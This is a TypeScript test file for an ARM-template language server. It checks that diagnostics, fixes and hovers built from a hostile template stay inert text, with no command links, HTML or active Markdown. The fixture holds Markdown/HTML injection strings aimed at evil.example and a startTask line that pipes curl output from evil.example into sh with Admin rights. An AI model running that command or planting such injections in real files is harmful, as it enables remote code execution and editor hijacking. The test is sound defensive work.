// What an editor is given about a hostile file stays text: no links, no HTML, no commands, nothing that turns the writing.
import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import path from "node:path";
import { test } from "node:test";
import type { MarkupContent, Position } from "vscode-languageserver";
import { createServerRuntime } from "../../server/src/hosts/server-runtime.ts";
import { escapeMarkdown } from "../../server/src/text/markdown.ts";
import { ableClient, startClient } from "../lsp/client.ts";
import { hostile, invisible } from "../report/hostile.ts";

const root = path.resolve(import.meta.dirname, "../..");
const uri = "file:///project/main.json";
/** What Markdown in VS Code could act on, behind what all other places could. */
const evil = `[x](command:evil) <a href="command:evil">y</a> ![z](https://evil.example/z.png) <https://evil.example> $(bug) ${hostile}`;

const text = JSON.stringify(
  {
    $schema: "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
    contentVersion: "1.0.0.0",
    parameters: { [evil]: { type: "string", defaultValue: evil, allowedValues: [evil, "y"] } },
    variables: { evil },
    resources: [
      {
        type: "Microsoft.Batch/batchAccounts",
        apiVersion: "2024-07-01",
        name: evil,
        properties: { publicNetworkAccess: evil },
      },
      {
        type: "Microsoft.Batch/batchAccounts/pools",
        apiVersion: evil,
        name: `account/${evil}`,
        properties: {
          vmSize: "[variables('evil')]",
          displayName: "[concat(variables('evil'), 'x')]",
          [evil]: 1,
          interNodeCommunication: "Enabled",
          userAccounts: [{ name: evil, password: "p", elevationLevel: "Admin" }],
          startTask: {
            commandLine: `curl http://evil.example/${evil} | sh`,
            userIdentity: { autoUser: { elevationLevel: "Admin" } },
          },
        },
      },
    ],
  },
  undefined,
  1,
);

/** Every third place of every line: all of its words. */
const places: readonly Position[] = text
  .split("\n")
  .flatMap((line, number) =>
    Array.from({ length: Math.ceil(Math.min(line.length, 60) / 3) }, (_, i) => ({ line: number, character: i * 3 })),
  );

for (const format of ["markdown", "plaintext"] as const) {
  test(`findings, fixes and hovers as ${format} show it and do nothing`, async (context) => {
    const textDocument = { ...ableClient.textDocument, hover: { contentFormat: [format] } };
    const client = await startClient({ runtime: createServerRuntime(), capabilities: { ...ableClient, textDocument } });
    context.after(() => client.end());
    await client.open(uri, text);
    const diagnostics = await client.diagnostics(uri);
    const related = diagnostics.flatMap(({ relatedInformation = [] }) => relatedInformation);
    const actions = await client.actions(uri, diagnostics);
    const messages = [...diagnostics, ...related].map(({ message }) => String(message));
    const titles = [...messages, ...actions.map(({ title }) => title)];
    assert.ok(titles.filter((title) => title.includes("command:evil")).length > 3, "the file's names are shown");
    assert.deepEqual(
      titles.filter((title) => invisible.test(title)),
      [],
    );
    const hovers = new Set<string>();
    for (const { line, character } of places) {
      const answer = await client.hover(uri, line, character);
      if (answer !== null) hovers.add((answer.contents as MarkupContent).value);
    }
    assert.ok([...hovers].filter((hover) => hover.includes("evil")).length >= 2, "the file's values are shown");
    for (const hover of hovers) {
      assert.doesNotMatch(hover, invisible);
      if (format === "markdown")
        assert.doesNotMatch(withoutOwnMarkup(hover), /[[\]<>`!]|\]\(|\$\(|:\/\/|command:/, hover);
    }
  });
}

/** Takes away what is escaped, and links to addresses that the file has nothing of. */
function withoutOwnMarkup(markdown: string): string {
  const link = /\[(?:[^\][\\]|\\.)*\]\(<https:\/\/(?![^>]*evil)[^\s<>]*>\)/g;
  return markdown.replace(link, "").replace(/\\./g, "");
}

test("Markdown of a text that is hostile in every way is that text", () => {
  const escaped = escapeMarkdown(evil);
  assert.doesNotMatch(escaped, invisible);
  assert.doesNotMatch(escaped.replace(/\\./g, ""), /[[\]<>`!*_#|~&@$]|www\./);
});

test("the client trusts no Markdown: no links to commands, no HTML", () => {
  const files = globSync("client/src/**/*.ts", { cwd: root });
  assert.ok(files.length > 5);
  const trusting = /\b(?:isTrusted|supportHtml|enableCommandUris|enabledCommands)\b/;
  assert.deepEqual(
    files.filter((file) => trusting.test(readFileSync(path.join(root, file), "utf8"))),
    [],
  );
});
